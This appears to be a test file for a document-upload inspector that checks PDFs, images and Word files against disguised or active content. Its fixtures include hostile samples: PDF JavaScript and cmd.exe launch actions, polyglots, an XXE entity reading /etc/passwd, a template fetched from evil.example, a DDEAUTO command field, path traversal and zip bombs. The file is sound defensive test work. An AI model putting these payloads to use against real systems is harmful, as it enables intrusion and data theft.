import { describe, expect, test } from 'vitest'
import { inspectBytes } from './inspect.ts'
import { compound, docx, pdf, photo, zip } from './samples.fixture.ts'

const seen = async (name: string, bytes: Buffer) => {
  const found = await inspectBytes(bytes, name)
  return found && { type: found.type, marks: found.marks }
}
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const workbook = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
const html = Buffer.from(`<html><script>alert(1)</script>${' '.repeat(600)}</html>`)
const packed = (text: string): Buffer => {
  const { deflateSync } = process.getBuiltinModule('zlib')
  return deflateSync(Buffer.from(text, 'latin1'))
}
const withStream = (dictionary: string, content: Buffer): Buffer => {
  const whole = pdf({ objects: '@@' }).toString('latin1')
  const stream = `7 0 obj\n<< ${dictionary} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n`
  return Buffer.from(
    whole.replace('@@', () => stream),
    'latin1',
  )
}
const withPacked = (text: string, filter = '/Filter /FlateDecode', pack = (bytes: Buffer): Buffer => bytes): Buffer =>
  withStream(`/Type /ObjStm /N 1 /First 4 ${filter}`, pack(packed(text)))
const withAttached = (content: Buffer, name: string): Buffer =>
  withStream(`/Type /EmbeddedFile /Of << /F (${name}) >> /Filter /FlateDecode`, packed(content.toString('latin1')))
/** A ZIP whose closing remark is the end of a PDF. */
const asZipToo = (): Buffer => {
  const container = zip([{ name: 'word/vbaProject.bin', content: 'x' }])
  const end = Buffer.from('\nxref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n')
  container.writeUInt16LE(end.length, container.length - 2)
  return Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'), container, end])
}
const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(64), Buffer.from('*/=1;alert(1)')])
const plainJpeg = await photo()
const plainPng = await photo({ format: 'png' })
const commented = Buffer.concat([
  plainJpeg.subarray(0, 2),
  Buffer.from('fffe0020', 'hex'),
  Buffer.from('<script>alert(1)</script>12345'),
  plainJpeg.subarray(2),
])
const flood = (() => {
  const header = Buffer.from('0000000d49484452000186a0000186a00806000000', 'hex')
  return Buffer.concat([plainPng.subarray(0, 8), header, plainPng.subarray(29)])
})()
const part = (name: string, content: string | Buffer = 'x', more = {}) => ({ name, content, ...more })
const relation = (type: string, target: string, { quote = '"', mode = 'External' } = {}) => {
  const said = `Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"`
  return part('word/_rels/settings.xml.rels', `<Relationships><Relationship ${said.replaceAll('"', quote)}/></Relationships>`)
}
const withRemark = (container: Buffer): Buffer => {
  const remark = Buffer.from('%PDF-1.4 and so on')
  container.writeUInt16LE(remark.length, container.length - 2)
  return Buffer.concat([container, remark])
}
/** The second of two equal members is the first once more: both point to the same bytes. */
const sharing = (): Buffer => {
  const container = docx({ more: [part('word/a.xml', '<a/>'), part('word/b.xml', '<a/>')] })
  const listed = (name: string): number => container.lastIndexOf(name) - 46
  container.writeUInt32LE(container.readUInt32LE(listed('word/a.xml') + 42), listed('word/b.xml') + 42)
  return container
}

describe('R130 R131 what a file is, by its content', () => {
  test.each<[string, string, Buffer, { type: string; marks: string[] } | null]>([
    ['a PDF', 'ok.pdf', pdf(), { type: 'pdf', marks: [] }],
    ['FC-001 HTML named .pdf', 'x.pdf', html, null],
    ['FC-002 a PDF mark, then HTML', 'x.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), html]), null],
    ['FC-003 a PDF mark at offset 500', 'x.pdf', Buffer.concat([html.subarray(0, 500), pdf()]), null],
    [
      'FC-004 a PDF with JavaScript',
      'x.pdf',
      pdf({ objects: '5 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n' }),
      { type: 'pdf', marks: ['script'] },
    ],
    [
      'FC-004 the same spelled in numbers',
      'x.pdf',
      pdf({ objects: '5 0 obj\n<< /S /Java#53cript >>\nendobj\n' }),
      { type: 'pdf', marks: ['script'] },
    ],
    ['FC-004 the same packed away', 'x.pdf', withPacked('5 0 << /S /JavaScript /JS (x) >>'), { type: 'pdf', marks: ['script'] }],
    ['FC-005 a PDF that starts a program', 'x.pdf', pdf({ objects: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n' }), null],
    ['FC-005 the same packed away', 'x.pdf', withPacked('5 0 << /S /Launch >>'), null],
    ['a PDF with another file after its end', 'x.pdf', pdf({ tail: 'PK\u0003\u0004' }), null],
    ['FC-006 a PDF that is a ZIP as well', 'x.pdf', asZipToo(), null],
    [
      'markup between head and objects',
      'x.pdf',
      Buffer.from(pdf().toString('latin1').replace('\n', '\n%<html><script>alert(1)</script>\n'), 'latin1'),
      null,
    ],
    [
      'FC-004 a script behind a remark that says stream',
      'x.pdf',
      pdf({ objects: '% stream\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n% endstream\n' }),
      { type: 'pdf', marks: ['script'] },
    ],
    [
      'FC-005 a program started from inside another stream',
      'x.pdf',
      pdf({ objects: '4 0 obj\n<< /Length 60 >>\nstream\n5 0 obj\n<< /S /Launch /F (cmd) >>\nendobj\nendstream\nendobj\n' }),
      null,
    ],
    [
      'objects packed so that only some can read them',
      'x.pdf',
      withPacked('5 0 << /S /Launch >>', '/Filter [/ASCIIHexDecode /FlateDecode]', (bytes) => Buffer.from(bytes.toString('hex'))),
      null,
    ],
    ['the same with a predictor', 'x.pdf', withPacked('x', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'), null],
    [
      'the same under a name in numbers',
      'x.pdf',
      Buffer.from(withPacked('5 0 << /S /Launch >>').toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1'),
      null,
    ],
    ['a program attached under a quiet name', 'x.pdf', withAttached(Buffer.from('4d5a9000', 'hex'), 'notes.txt'), null],
    ['a program attached by its name', 'x.pdf', withAttached(Buffer.from('x'), 'setup.exe'), null],
    ['a text attached', 'x.pdf', withAttached(Buffer.from('hello'), 'notes.txt'), { type: 'pdf', marks: ['attachments'] }],
    [
      'a PDF that opens another file',
      'x.pdf',
      pdf({ objects: '5 0 obj\n<< /S /GoToR /F (\\\\host\\a) >>\nendobj\n' }),
      { type: 'pdf', marks: ['external-links'] },
    ],
    ['FC-007 a PNG mark, then HTML', 'x.png', Buffer.concat([plainPng.subarray(0, 8), html]), null],
    ['FC-008 a JPEG with script in a comment', 'x.jpg', commented, { type: 'jpg', marks: [] }],
    [
      'FC-009 SVG named .png',
      'x.png',
      Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${' '.repeat(60)}</svg>`),
      null,
    ],
    ['FC-010 GIF named .jpg', 'x.jpg', gif, null],
    ['a picture of ten thousand million pixels', 'x.png', flood, null],
    ['a PNG named .jpg', 'x.jpg', plainPng, null],
    ['half a JPEG', 'x.jpg', plainJpeg.subarray(0, plainJpeg.length - 40), null],
    ['a Word document', 'ok.docx', docx(), { type: 'docx', marks: [] }],
    ['FC-011 a macro document renamed', 'x.docx', docx({ type: macroMain }), null],
    ['FC-011 a Word document with a macro part', 'x.docx', docx({ more: [part('word/vbaProject.bin')] }), null],
    [
      'FC-013 a template fetched from elsewhere',
      'x.docx',
      docx({ more: [relation('attachedTemplate', 'http://evil.example/t.dotm')] }),
      { type: 'docx', marks: ['external-links'] },
    ],
    ['a link to a page', 'x.docx', docx({ more: [relation('hyperlink', 'https://acas.org.uk')] }), { type: 'docx', marks: [] }],
    [
      'FC-014 a DOCTYPE',
      'x.docx',
      docx({ document: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>' }),
      null,
    ],
    [
      'FC-015 entities in entities',
      'x.docx',
      docx({ more: [part('word/styles.xml', '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>')] }),
      null,
    ],
    ['FC-018 a member that leads out', 'x.docx', docx({ more: [part('../../x')] }), null],
    ['FC-019 a member that is a link', 'x.docx', docx({ more: [part('word/link', '/etc/passwd', { attributes: 0o120777 << 16 })] }), null],
    ['FC-012 macros under another name', 'x.docx', docx({ more: [relation('vbaProject', 'word/readme.bin', { mode: 'Internal' })] }), null],
    [
      'the same declared only among the types',
      'x.docx',
      docx({ types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
      null,
    ],
    [
      'a fetched template in other quotes',
      'x.docx',
      docx({ more: [relation('attachedTemplate', 'http://evil.example/t.dotm', { quote: "'" })] }),
      { type: 'docx', marks: ['external-links'] },
    ],
    [
      'a fetched template with its mode in numbers',
      'x.docx',
      docx({ more: [relation('attachedTemplate', 'http://evil.example/t', { mode: 'Ext&#101;rnal' })] }),
      { type: 'docx', marks: ['external-links'] },
    ],
    [
      'a field that calls another program',
      'x.docx',
      docx({ document: '<w:document><w:instrText> DDEAUTO c:\\\\cmd.exe "/c calc" </w:instrText></w:document>' }),
      { type: 'docx', marks: ['external-links'] },
    ],
    ['a part that is a program', 'x.docx', docx({ more: [part('word/media/image1.png', Buffer.from('4d5a90000300', 'hex'))] }), null],
    ['a zip called a picture', 'x.docx', docx({ more: [part('word/media/image1.png', zip([part('a', 'b')]))] }), null],
    [
      'a workbook in it',
      'x.docx',
      docx({ more: [part('word/embeddings/sheet1.xlsx', zip([part('a', 'b')]))] }),
      { type: 'docx', marks: ['attachments'] },
    ],
    [
      'entities in a part that is not called XML',
      'x.docx',
      docx({ more: [part('word/data.bin', '<!DOCTYPE l [<!ENTITY a "aa">]><l/>')] }),
      null,
    ],
    ['two parts that differ in case', 'x.docx', docx({ more: [part('WORD/DOCUMENT.XML', '<w:document/>')] }), null],
    ['something behind its end', 'x.docx', withRemark(docx()), null],
    ['FC-017 members that share their bytes', 'x.docx', sharing(), null],
    ['a document that is none', 'x.docx', docx({ document: '<html/>' }), null],
    ['FC-020 a zip in it', 'x.docx', docx({ more: [part('word/inner.zip', zip([part('a', 'b')]))] }), null],
    ['more members than a document has', 'x.docx', docx({ more: Array.from({ length: 2001 }, (_, i) => part(`word/${i}`)) }), null],
    ['FC-021 an old Word document', 'ok.doc', compound(['Root Entry', 'WordDocument', '1Table']), { type: 'doc', marks: [] }],
    [
      'FC-021 D5 the same with macros',
      'x.doc',
      compound(['Root Entry', 'WordDocument', 'Macros', 'VBA']),
      { type: 'doc', marks: ['macros'] },
    ],
    ['FC-022 an installer that says it is a document', 'x.doc', compound(['Root Entry', 'WordDocument', '\u4840\u3b3f\u43f2']), null],
    ['FC-023 a workbook named .doc', 'x.doc', compound(['Root Entry', 'Workbook', 'WordDocument']), null],
    [
      'an old Word document with something attached',
      'x.doc',
      compound(['Root Entry', 'WordDocument', 'ObjectPool']),
      { type: 'doc', marks: ['attachments'] },
    ],
    ['HTML named .doc', 'x.doc', html, null],
    ['rich text named .doc', 'x.doc', Buffer.from(`{\\rtf1 ${' '.repeat(2000)}}`), null],
    ['an installer named .doc', 'x.doc', compound(['Root Entry', '\u0005SummaryInformation', 'Property']), null],
    [
      'FC-024 a Word document with a password',
      'x.docx',
      compound(['Root Entry', 'EncryptionInfo', 'EncryptedPackage']),
      { type: 'docx', marks: ['encrypted'] },
    ],
    [
      'FC-025 the scanner’s test file',
      'eicar.pdf',
      Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')),
      null,
    ],
    ['FC-029 a workbook named .docx', 'x.docx', docx({ type: workbook }), null],
    ['FC-031 nothing', 'x.pdf', Buffer.alloc(0), null],
    ['a PDF with an ending that is not stored', 'x.heic', pdf(), null],
  ])('%s', async (_title, name, bytes, expected) => {
    expect(await seen(name, bytes)).toEqual(expected)
  })

  test('FC-016 612 kB that unpack to 600 MB are refused quickly and in little memory', async () => {
    const bomb = docx({ more: [part('word/big.xml', Buffer.alloc(120 * 1024 * 1024), { pack: true })] })
    expect(bomb.length).toBeLessThan(400_000)
    const before = process.memoryUsage().rss
    const start = performance.now()
    expect(await inspectBytes(bomb, 'x.docx')).toBeNull()
    expect(performance.now() - start).toBeLessThan(2_000)
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024)
  })

  test('a container that says it is small and is not is refused as well', async () => {
    const lies = docx({ more: [part('word/big.xml', Buffer.alloc(3_000_000), { pack: true })] })
    const at = lies.lastIndexOf('word/big.xml') - 22
    lies.writeUInt32LE(1000, at)
    expect(await inspectBytes(lies, 'x.docx')).toBeNull()
  })

  test.each([['jpg', plainJpeg] as const, ['png', plainPng] as const])(
    'FC-028 a %s loses the place it was taken and keeps its pixels',
    async (ending, sent) => {
      const { default: sharp } = await import('sharp')
      const tail = Buffer.concat([sent, Buffer.from('<script>after</script>')])
      const found = await inspectBytes(tail, `holiday.${ending}`)
      const cleaned = found?.cleaned as Buffer
      expect(sent.includes('private remark')).toBe(true)
      expect(['private remark', '<script>'].filter((text) => cleaned.includes(text))).toEqual([])
      const pixels = (bytes: Buffer) => sharp(bytes).raw().toBuffer()
      expect((await pixels(cleaned)).equals(await pixels(sent))).toBe(true)
      // A PNG says which way up it is among what is taken away.
      const upright = ending === 'jpg' ? (await sharp(sent).metadata()).orientation : undefined
      expect((await sharp(cleaned).metadata()).orientation).toBe(upright)
    },
  )

  test('FC-008 the comment of a JPEG is gone from what is kept', async () => {
    expect((await inspectBytes(commented, 'x.jpg'))?.cleaned?.includes('<script>')).toBe(false)
  })
})
